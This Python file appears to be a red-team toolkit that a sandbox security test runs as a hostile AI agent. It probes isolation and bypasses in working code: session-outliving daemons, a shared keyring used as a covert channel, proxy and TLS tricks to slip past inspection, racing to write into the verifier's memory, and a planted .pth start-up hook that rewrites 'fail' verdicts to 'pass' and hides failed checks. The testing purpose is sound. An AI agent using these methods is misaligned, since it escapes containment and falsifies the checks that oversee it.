"""The hostile agent's toolkit: piped into a sandbox over stdin and run as the agent (`python3 -I - ATTACK JSON`).

Standard library only (the sandbox's python3), Linux x86_64/aarch64. Every attack prints one JSON line (its
observation) and exits 0; errors are observations too (errno names), never exceptions. Every loop is bounded.
Traffic goes only to addresses the test passes in (the lab's own pods, proxy and world). AF_VSOCK is only ever
created with an invalid socket type (the kernel answers EINVAL before any socket exists), never connected, bound
or sent on.
"""
import contextlib
import ctypes
import errno
import json
import os
import platform
import re
import signal
import socket
import ssl
import struct
import sys
import time

ARCH = platform.machine()
NR = {  # asm/unistd_64.h (x86_64) and asm-generic/unistd.h (aarch64)
    "x86_64": {"socket": 41, "clone": 56, "unshare": 272, "clone3": 435, "add_key": 248, "keyctl": 250,
               "ptrace": 101, "process_vm_writev": 311, "process_vm_readv": 310, "inotify_init1": 294},
    "aarch64": {"socket": 198, "clone": 220, "unshare": 97, "clone3": 435, "add_key": 217, "keyctl": 219,
                "ptrace": 117, "process_vm_writev": 271, "process_vm_readv": 270, "inotify_init1": 26},
}[ARCH]
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
CLONE_NEWUSER, SIGCHLD = 0x10000000, 17
KEY_SPEC_USER_KEYRING = -4
KEYCTL_GET_KEYRING_ID, KEYCTL_DESCRIBE, KEYCTL_LINK, KEYCTL_UNLINK, KEYCTL_READ, KEYCTL_SET_TIMEOUT = 0, 6, 8, 9, 11, 15
KEY_SPEC_PROCESS_KEYRING = -2
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
EINVAL_TYPE = 15  # >= SOCK_MAX: the kernel refuses with EINVAL before looking at the family


def out(obj):
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


def ename(num):
    return errno.errorcode.get(num, str(num))


def sysc(name, *args):
    ctypes.set_errno(0)
    rc = LIBC.syscall(ctypes.c_long(NR[name]), *args)
    return rc, (ename(ctypes.get_errno()) if rc < 0 else None)


def status_fields():
    fields = {}
    with open("/proc/self/status", encoding="ascii", errors="replace") as fh:
        for line in fh:
            key, dummy, value = line.partition(":")
            if key in ("Uid", "Seccomp", "Seccomp_filters", "NoNewPrivs", "CapEff"):
                fields[key] = value.strip()
    return fields


def daemonize():
    """Fork a child that outlives this session: new session, stdio on /dev/null. Returns True in the child."""
    if os.fork():
        return False
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    return True


def write_json(path, obj):
    tmp = f"{path}.tmp{os.getpid()}"
    with open(tmp, "w", encoding="utf-8") as fh:
        json.dump(obj, fh)
    os.replace(tmp, path)


# ---- vantage -------------------------------------------------------------------------------------------------
def a_status(_args):
    fields = status_fields()
    try:
        fd = os.open("/dev/shm/agentsec-adv-landlock-probe", os.O_WRONLY | os.O_CREAT, 0o600)
        os.close(fd)
        os.unlink("/dev/shm/agentsec-adv-landlock-probe")
        landlock = "write-ok"
    except OSError as exc:
        landlock = ename(exc.errno)
    with open("/proc/self/uid_map", encoding="ascii") as fh:
        uid_map = " ".join(fh.read().split())
    return {**fields, "landlock_dev_shm": landlock, "uid_map": uid_map, "pid": os.getpid()}


# ---- class 3: the seccomp allow-list -----------------------------------------------------------------------------
def a_socket(args):
    """socket(family, type, proto) with the family as a full 64-bit register value; a created socket is closed."""
    rc, err = sysc("socket", ctypes.c_ulong(int(args["family"])), ctypes.c_ulong(int(args.get("type", EINVAL_TYPE))),
                   ctypes.c_ulong(int(args.get("proto", 0))))
    if rc >= 0:
        os.close(rc)
        return {"result": "created"}
    return {"result": err}


def _child_result(pid):
    dummy, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status)


def a_clone_newuser(_args):
    """clone(CLONE_NEWUSER | SIGCHLD) without a stack (fork semantics): a child that exists is reaped at once."""
    rc, err = sysc("clone", ctypes.c_ulong(CLONE_NEWUSER | SIGCHLD), ctypes.c_ulong(0), ctypes.c_ulong(0),
                   ctypes.c_ulong(0), ctypes.c_ulong(0))
    if rc == 0:
        os._exit(0)
    if rc > 0:
        _child_result(rc)
        return {"result": "created"}
    return {"result": err}


def a_clone3_newuser(_args):
    """clone3({flags: CLONE_NEWUSER, exit_signal: SIGCHLD}) (struct clone_args, linux/sched.h: 8 u64 fields)."""
    cargs = struct.pack("=8Q", CLONE_NEWUSER, 0, 0, 0, SIGCHLD, 0, 0, 0)
    buf = ctypes.create_string_buffer(cargs, len(cargs))
    rc, err = sysc("clone3", buf, ctypes.c_size_t(len(cargs)))
    if rc == 0:
        os._exit(0)
    if rc > 0:
        _child_result(rc)
        return {"result": "created"}
    return {"result": err}


def a_unshare_newuser(_args):
    """unshare(CLONE_NEWUSER) in a forked child, so this process keeps its namespaces."""
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        rc, err = sysc("unshare", ctypes.c_ulong(CLONE_NEWUSER))
        os.write(wr, (err or "created").encode())
        os._exit(0)
    os.close(wr)
    _child_result(pid)
    result = os.read(rd, 64).decode()
    os.close(rd)
    return {"result": result}


def a_keyring(_args):
    """Is the uid's user keyring usable? KEYCTL_GET_KEYRING_ID(@u) creates nothing that was not there."""
    rc, err = sysc("keyctl", ctypes.c_long(KEYCTL_GET_KEYRING_ID), ctypes.c_long(KEY_SPEC_USER_KEYRING), ctypes.c_long(0))
    return {"result": "usable" if rc >= 0 else err, "keyring": rc if rc >= 0 else None}


# ---- class 6: the keyring shared by every sandbox with the same uid --------------------------------------------------
def a_key_put(args):
    """Put a secret into the uid's user keyring as a key's description (readable with View alone, which the uid has).
    The key is made in this process's keyring (possessed, so its timeout can be set: it expires after `seconds`) and
    then linked into the user keyring that every process of this uid on the kernel shares."""
    desc, payload = args["desc"].encode(), b"x"
    rc, err = sysc("add_key", b"user", desc, payload, ctypes.c_size_t(len(payload)), ctypes.c_long(KEY_SPEC_PROCESS_KEYRING))
    if rc < 0:
        return {"result": err}
    sysc("keyctl", ctypes.c_long(KEYCTL_SET_TIMEOUT), ctypes.c_long(rc), ctypes.c_long(int(args.get("seconds", 60))))
    link, err = sysc("keyctl", ctypes.c_long(KEYCTL_LINK), ctypes.c_long(rc), ctypes.c_long(KEY_SPEC_USER_KEYRING))
    return {"result": "added" if link == 0 else f"link:{err}", "key": rc}


def _keyring_ids():
    buf = ctypes.create_string_buffer(4096)
    rc, err = sysc("keyctl", ctypes.c_long(KEYCTL_READ), ctypes.c_long(KEY_SPEC_USER_KEYRING), buf, ctypes.c_long(4096))
    if rc < 0:
        return None, err
    return list(struct.unpack(f"={min(rc, 4096) // 4}i", buf.raw[: min(rc, 4096) // 4 * 4])), None


def _describe(key):
    buf = ctypes.create_string_buffer(4096)
    rc, _err = sysc("keyctl", ctypes.c_long(KEYCTL_DESCRIBE), ctypes.c_long(key), buf, ctypes.c_long(4096))
    return buf.value.decode(errors="replace") if rc > 0 else None


def a_key_find(args):
    """List the uid's user keyring and read every key's description: what another sandbox left there."""
    ids, err = _keyring_ids()
    if ids is None:
        return {"result": err}
    found = [d for d in (_describe(k) for k in ids) if d and args["prefix"] in d]
    unlinked = 0
    if args.get("unlink"):  # Write on the user keyring is enough to take another sandbox's key out of it
        for key in ids:
            if args["prefix"] in (_describe(key) or ""):
                rc, _err = sysc("keyctl", ctypes.c_long(KEYCTL_UNLINK), ctypes.c_long(key), ctypes.c_long(KEY_SPEC_USER_KEYRING))
                unlinked += rc == 0
    return {"result": "listed", "found": found, "unlinked": unlinked}


# ---- classes 4 and 6: abstract unix sockets, signals, processes, files, SysV shm -------------------------------------
def a_victim(args):
    """A long-lived process: binds an abstract unix socket, counts SIGUSR1s, records itself in a state file."""
    state = args["state"]
    if not daemonize():
        for _dummy in range(100):  # the child writes its state within 10 s
            if os.path.exists(state):
                with open(state, encoding="utf-8") as fh:
                    return json.load(fh)
            time.sleep(0.1)
        return {"result": "no-state"}
    got = {"signals": 0, "connections": 0}
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind("\0" + args["abstract"])
    srv.listen(8)
    srv.settimeout(0.2)

    def on_usr1(_sig, _frame):
        got["signals"] += 1

    signal.signal(signal.SIGUSR1, on_usr1)
    end = time.monotonic() + float(args.get("seconds", 60))
    write_json(state, {"result": "listening", "pid": os.getpid(), **got})
    while time.monotonic() < end:
        try:
            conn, dummy = srv.accept()
            conn.close()
            got["connections"] += 1
        except OSError:
            pass
        write_json(state, {"result": "listening", "pid": os.getpid(), **got})
    os._exit(0)


def a_abstract_connect(args):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(2)
    try:
        sock.connect("\0" + args["abstract"])
        return {"result": "connected"}
    except OSError as exc:
        return {"result": ename(exc.errno)}
    finally:
        sock.close()


def a_signal(args):
    try:
        os.kill(int(args["pid"]), signal.SIGUSR1)
        return {"result": "sent"}
    except OSError as exc:
        return {"result": ename(exc.errno)}


def a_read_state(args):
    try:
        with open(args["state"], encoding="utf-8") as fh:
            return json.load(fh)
    except (OSError, ValueError) as exc:
        return {"result": type(exc).__name__}


def a_marker(args):
    """Leave traces of this sandbox: a long-lived process with the marker in its argv, files in /tmp, /sandbox and
    /dev/shm, a SysV shared memory segment with the marker's key."""
    marker, key = args["marker"], int(args["shm_key"])
    files = {}
    for path in (f"/tmp/{marker}", f"/sandbox/{marker}", f"/dev/shm/{marker}"):
        try:
            with open(path, "w", encoding="ascii") as fh:
                fh.write(marker)
            files[path] = "written"
        except OSError as exc:
            files[path] = ename(exc.errno)
    shmid = LIBC.shmget(ctypes.c_int(key), ctypes.c_size_t(4096), ctypes.c_int(0o1000 | 0o600))  # IPC_CREAT
    shm = "created" if shmid >= 0 else ename(ctypes.get_errno())
    if daemonize():
        with contextlib.suppress(OSError):
            os.execv("/bin/sleep", [marker, str(int(args.get("seconds", 60)))])  # the marker is argv[0]
        os._exit(0)
    return {"files": files, "shm": shm, "shmid": shmid}


def a_look(args):
    """What of another sandbox's traces this process can see."""
    marker, key = args["marker"], int(args["shm_key"])
    procs = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{entry}/cmdline", "rb") as fh:
                if fh.read().split(b"\0")[0] == marker.encode():  # the trace's argv[0], not this look's own argv
                    procs.append(int(entry))
    files = [p for p in (f"/tmp/{marker}", f"/sandbox/{marker}", f"/dev/shm/{marker}") if os.path.exists(p)]
    shmid = LIBC.shmget(ctypes.c_int(key), ctypes.c_size_t(0), ctypes.c_int(0))
    with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as fh:
        mounts = [line.split()[3] for line in fh if args.get("peer") and args["peer"] in line]
    return {"processes": procs, "files": files, "shm": "found" if shmid >= 0 else ename(ctypes.get_errno()),
            "peer_mounts": mounts}


def a_cleanup(args):
    marker, key = args["marker"], int(args.get("shm_key", 0))
    for path in (f"/tmp/{marker}", f"/sandbox/{marker}", f"/dev/shm/{marker}"):
        with contextlib.suppress(OSError):
            os.unlink(path)
    if key:
        shmid = LIBC.shmget(ctypes.c_int(key), ctypes.c_size_t(0), ctypes.c_int(0))
        if shmid >= 0:
            LIBC.shmctl(ctypes.c_int(shmid), ctypes.c_int(0), None)  # IPC_RMID
    return {"result": "cleaned"}


# ---- class 6: shared per-uid counters, limits ---------------------------------------------------------------------
def _can_fork_under(limit):
    """Can this uid start one more process when RLIMIT_NPROC is `limit`? (fork fails with EAGAIN once the uid's
    process count - counted per user namespace and uid, not per container - reaches the limit)."""
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        import resource  # noqa: PLC0415

        resource.setrlimit(resource.RLIMIT_NPROC, (limit, limit))
        try:
            child = os.fork()
            if child == 0:
                os._exit(0)
            os.waitpid(child, 0)
            os.write(wr, b"1")
        except OSError:
            os.write(wr, b"0")
        os._exit(0)
    os.close(wr)
    os.waitpid(pid, 0)
    ok = os.read(rd, 1) == b"1"
    os.close(rd)
    return ok


def a_uid_procs(_args):
    """The number of processes this uid has on the whole kernel (every sandbox with this uid), by bisection."""
    lo, hi = 1, 1 << 16
    if _can_fork_under(hi):
        while lo < hi:  # smallest limit under which a fork still works = count + 1
            mid = (lo + hi) // 2
            if _can_fork_under(mid):
                hi = mid
            else:
                lo = mid + 1
        return {"result": "measured", "count": lo - 1,
                "visible_here": sum(1 for e in os.listdir("/proc") if e.isdigit() and _uid_of(e) == os.getuid())}
    return {"result": "unmeasurable"}


def _uid_of(pid):
    try:
        with open(f"/proc/{pid}/status", encoding="ascii", errors="replace") as fh:
            for line in fh:
                if line.startswith("Uid:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def a_spawn_sleepers(args):
    """`count` detached processes of this uid that live `seconds`."""
    pids = []
    for _dummy in range(int(args["count"])):
        pid = os.fork()
        if pid == 0:
            os.setsid()
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv("/bin/sleep", ["agentsec-adv-sleeper", str(int(args["seconds"]))])
        pids.append(pid)
    return {"result": "spawned", "count": len(pids)}


def a_memory(args):
    """Allocate and touch `mb` MiB in a child; report how the child ended (SIGKILL = the OOM killer of a limit)."""
    pid = os.fork()
    if pid == 0:
        chunks = []
        for _dummy in range(int(args["mb"])):
            chunks.append(bytearray(1 << 20))  # zero-filled: every page is touched
        os._exit(0)
    dummy, status = os.waitpid(pid, 0)
    return {"result": "survived" if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0 else
            (f"killed:{signal.Signals(os.WTERMSIG(status)).name}" if os.WIFSIGNALED(status) else f"exit:{os.WEXITSTATUS(status)}")}


def a_cgroup(_args):
    """The kernel's limits for this container (cgroup v1 or v2 files, as mounted in the container)."""
    files = {"memory": ["/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes"],
             "cpu": ["/sys/fs/cgroup/cpu.max", "/sys/fs/cgroup/cpu/cpu.cfs_quota_us"],
             "pids": ["/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/pids/pids.max"]}
    got = {}
    for name, paths in files.items():
        for path in paths:
            with contextlib.suppress(OSError), open(path, encoding="ascii") as fh:
                got[name] = fh.read().strip()
                break
    return got


# ---- class 6 and 5: network ---------------------------------------------------------------------------------------
def _read_some(sock, limit=4096, timeout=3.0):
    sock.settimeout(timeout)
    data = b""
    with contextlib.suppress(OSError):
        while len(data) < limit:
            chunk = sock.recv(limit)
            if not chunk:
                break
            data += chunk
            if b"\n" in data and not data.startswith(b"HTTP/"):
                break
    return data


def a_tcp(args):
    """A direct TCP connection (no proxy); on success send one line and read the answer."""
    try:
        sock = socket.create_connection((args["host"], int(args["port"])), timeout=float(args.get("timeout", 2)))
    except OSError as exc:
        return {"result": ename(exc.errno) if exc.errno else type(exc).__name__}
    with sock:
        sock.sendall(b"agentsec-adv hello\n")
        return {"result": "connected", "answer": _read_some(sock).decode("latin-1")[:200]}


def _proxy_request(proxy, payload, timeout=3.0):
    host, port = proxy.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=timeout)
    sock.sendall(payload)
    head = b""
    sock.settimeout(timeout)
    while b"\r\n\r\n" not in head and len(head) < 16384:
        chunk = sock.recv(4096)
        if not chunk:
            break
        head += chunk
    return sock, head


def _status(head):
    m = re.match(rb"HTTP/\d(?:\.\d)? (\d{3})", head)
    return int(m.group(1)) if m else None


def a_proxy_connect(args):
    """CONNECT target through the sandbox proxy; on a tunnel send one line and read what comes back."""
    target = args["target"]
    try:
        sock, head = _proxy_request(args["proxy"], f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    except OSError as exc:
        return {"result": "proxy-error", "error": ename(exc.errno) if exc.errno else str(exc)}
    with sock:
        code = _status(head)
        if code is None or code // 100 != 2:
            return {"result": "refused" if code else "closed", "status": code}
        if args.get("tls"):
            return {"result": "tunnel", "status": code}
        sock.sendall(b"agentsec-adv hello\n")
        return {"result": "tunnel", "status": code, "answer": _read_some(sock).decode("latin-1")[:200]}


def a_proxy_forward(args):
    """A forward-proxy request: absolute URI to one authority, Host header naming another."""
    req = (f"GET http://{args['uri_authority']}/agentsec-adv HTTP/1.1\r\nHost: {args['host_header']}\r\n"
           "Connection: close\r\n\r\n").encode()
    try:
        sock, head = _proxy_request(args["proxy"], req)
    except OSError as exc:
        return {"result": "proxy-error", "error": ename(exc.errno) if exc.errno else str(exc)}
    with sock:
        body = head.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in head else b""
        body += _read_some(sock)
        code = _status(head)
        return {"result": "answered" if code else "raw", "status": code,
                "answer": (body if code else head + body).decode("latin-1")[:200]}


def a_tls_variant(args):
    """TLS through a CONNECT tunnel with the ClientHello's record-layer version rewritten; reports who signed the
    certificate that came back (the sandbox CA = intercepted, anyone else = relayed raw past the L7 layer)."""
    try:
        sock, head = _proxy_request(args["proxy"], f"CONNECT {args['target']} HTTP/1.1\r\nHost: {args['target']}\r\n\r\n".encode())
    except OSError as exc:
        return {"result": "proxy-error", "error": str(exc)}
    if (_status(head) or 0) // 100 != 2:
        sock.close()
        return {"result": "refused", "status": _status(head)}
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=args["target"].rsplit(":", 1)[0])
    record, first, deadline = bytes.fromhex(args["record"]), True, time.monotonic() + 5
    try:
        with sock:
            sock.settimeout(5)
            while time.monotonic() < deadline:
                try:
                    obj.do_handshake()
                    break
                except ssl.SSLWantReadError:
                    data = outgoing.read()
                    if data and first:
                        first, data = False, data[:1] + record + data[3:]
                    if data:
                        sock.sendall(data)
                    chunk = sock.recv(65536)
                    if not chunk:
                        return {"result": "closed"}
                    incoming.write(chunk)
            der = obj.getpeercert(binary_form=True) or b""
    except (OSError, ssl.SSLError) as exc:
        return {"result": "tls-error", "error": str(exc)[:200]}
    issuer = "sandbox-ca" if b"OpenShell Sandbox CA" in der else ("world-ca" if b"lab public CA" in der else "other")
    return {"result": "handshake", "issuer": issuer}


def a_inference(args):
    """One request to inference.local through the proxy (TLS with the sandbox CA); `routed` when the answer came from
    the provider (OpenShell sends every routed answer chunked) - with the provider key, which the agent never holds."""
    try:
        sock, head = _proxy_request(args["proxy"], b"CONNECT inference.local:443 HTTP/1.1\r\nHost: inference.local:443\r\n\r\n")
    except OSError as exc:
        return {"result": "proxy-error", "error": str(exc)}
    if (_status(head) or 0) // 100 != 2:
        sock.close()
        return {"result": "refused", "status": _status(head)}
    ctx = ssl.create_default_context(cafile=args["ca"])
    body = b'{"model":"agentsec-adv"}'
    req = (f"{args['method']} {args['path']} HTTP/1.1\r\nHost: inference.local\r\nContent-Type: application/json\r\n"
           f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode() + body
    try:
        with ctx.wrap_socket(sock, server_hostname="inference.local") as tls:
            tls.sendall(req)
            data = _read_some(tls, 65536, 5)
    except (OSError, ssl.SSLError) as exc:
        return {"result": "tls-error", "error": str(exc)[:200]}
    head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1").lower()
    return {"result": "answered", "status": _status(data), "routed": "transfer-encoding: chunked" in head}


# ---- class 2: a process that races to open the verifier's memory -------------------------------------------------------
def _try_tamper(pid):
    """What this process can do to another process of its uid: open /proc/PID/mem read-write (and write a byte back
    unchanged), process_vm_writev, ptrace(PTRACE_SEIZE)."""
    got = {"pid": pid}
    try:
        with open(f"/proc/{pid}/maps", encoding="ascii") as fh:
            start = int(fh.readline().split("-", 1)[0], 16)
    except (OSError, ValueError, IndexError) as exc:
        start = None
        got["maps"] = ename(exc.errno) if isinstance(exc, OSError) else "unreadable"
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        got["mem_open"] = "ok"
        if start is not None:
            try:
                byte = os.pread(fd, 1, start)
                os.pwrite(fd, byte, start)  # the same byte back: write access proven, nothing changed
                got["mem_write"] = "ok"
            except OSError as exc:
                got["mem_write"] = ename(exc.errno)
        os.close(fd)
    except OSError as exc:
        got["mem_open"] = ename(exc.errno)
    if start is not None:
        buf = ctypes.create_string_buffer(1)
        local = struct.pack("=QQ", ctypes.addressof(buf), 1)
        remote = struct.pack("=QQ", start, 1)
        lbuf, rbuf = ctypes.create_string_buffer(local, 16), ctypes.create_string_buffer(remote, 16)
        rc, err = sysc("process_vm_readv", ctypes.c_long(pid), lbuf, ctypes.c_ulong(1), rbuf, ctypes.c_ulong(1), ctypes.c_ulong(0))
        if rc == 1:
            rc, err = sysc("process_vm_writev", ctypes.c_long(pid), lbuf, ctypes.c_ulong(1), rbuf, ctypes.c_ulong(1), ctypes.c_ulong(0))
            got["process_vm_writev"] = "ok" if rc == 1 else err
        else:
            got["process_vm_readv"] = err
    rc, err = sysc("ptrace", ctypes.c_long(PTRACE_SEIZE), ctypes.c_long(pid), ctypes.c_long(0), ctypes.c_long(0))
    got["ptrace_seize"] = "ok" if rc == 0 else err
    if rc == 0:
        sysc("ptrace", ctypes.c_long(PTRACE_DETACH), ctypes.c_long(pid), ctypes.c_long(0), ctypes.c_long(0))
    return got


def a_watch_verifier(args):
    """A long-lived agent process (planted before verification) that polls /proc for the verifier (`python3 ... -c`
    with the result marker in its argv) and tries to reach its memory the moment it starts."""
    state, needle = args["state"], args["needle"].encode()
    if not daemonize():
        for _dummy in range(50):
            if os.path.exists(state):
                return {"result": "watching"}
            time.sleep(0.1)
        return {"result": "no-state"}
    seen, hits = set(), []
    me = os.getpid()
    end = time.monotonic() + float(args.get("seconds", 60))
    write_json(state, {"result": "watching", "pid": me, "hits": hits})
    while time.monotonic() < end and len(hits) < int(args.get("max_hits", 4)):
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or entry in seen or int(entry) == me:
                continue
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    cmd = fh.read()
            except OSError:
                continue
            if needle in cmd and cmd.split(b"\0")[0].endswith(b"python3"):  # not yet the shell that starts it
                seen.add(entry)
                hits.append(_try_tamper(int(entry)))
                write_json(state, {"result": "watching", "pid": me, "hits": hits})
        time.sleep(0.0005)
    write_json(state, {"result": "done", "pid": me, "hits": hits})
    os._exit(0)


# ---- class 1 and 2: start-up hooks planted in the agent's persistent home -------------------------------------------------
def a_plant(args):
    """Plant code where interpreters and shells pick it up: a .pth in the user site of HOME (/sandbox), and
    ~/.bash_profile. Each records where it ran, with its seccomp state, into LOG; the .pth can also rewrite the
    verifier's verdict in any interpreter that runs it (`tamper`)."""
    home, log = os.environ.get("HOME", "/sandbox"), args["log"]
    site_dir = os.path.join(home, ".local", "lib", f"python{sys.version_info[0]}.{sys.version_info[1]}", "site-packages")
    os.makedirs(site_dir, exist_ok=True)
    record = ("import os as _o;_s=[l.strip() for l in open('/proc/self/status') if l.startswith(('Seccomp_filters','NoNewPrivs'))];"
              f"open({log!r},'a').write(__import__('json').dumps({{'by':'pth','pid':_o.getpid(),'argv':open('/proc/self/cmdline','rb')"
              ".read().replace(b'\\0',b' ').decode()[:120],'status':_s})+'\\n')")
    tamper = ("import sys as _y\nclass _W:\n def __init__(s,f): s.f=f\n def write(s,x): return s.f.write(x.replace('\"status\": \"fail\"',"
              "'\"status\": \"pass\"').replace('\"status\": \"error\"','\"status\": \"pass\"').replace('\"failed_checks\": [','\"hidden\": ['))\n"
              " def __getattr__(s,n): return getattr(s.f,n)\n_y.stdout=_W(_y.stdout)\n")
    line = f"import os; exec({record!r})"
    if args.get("tamper"):
        line += f"; exec({tamper!r})"
    pth = os.path.join(site_dir, args.get("name", "agentsec-adv.pth"))
    with open(pth, "w", encoding="utf-8") as fh:
        fh.write(line + "\n")
    profile = os.path.join(home, ".bash_profile")
    with open(profile, "w", encoding="utf-8") as fh:
        fh.write("printf '{\"by\": \"bash_profile\", \"status\": [\"%s\"]}\\n' "
                 f"\"$(grep Seccomp_filters /proc/$$/status | tr '\\t' ' ')\" >> {log}\n"
                 "export AGENTSEC_CONFINED=1\n")
    return {"result": "planted", "pth": pth, "profile": profile}


def a_unplant(args):
    home = os.environ.get("HOME", "/sandbox")
    removed = []
    for path in (args.get("pth"), os.path.join(home, ".bash_profile"), args.get("log")):
        if path and os.path.exists(path):
            os.unlink(path)
            removed.append(path)
    return {"result": "removed", "removed": removed}


def a_read_log(args):
    try:
        with open(args["log"], encoding="utf-8") as fh:
            return {"result": "read", "entries": [json.loads(line) for line in fh if line.strip()]}
    except FileNotFoundError:
        return {"result": "read", "entries": []}


def main():
    name, params = sys.argv[1], json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
    out(globals()[f"a_{name}"](params))


if __name__ == "__main__":
    main()
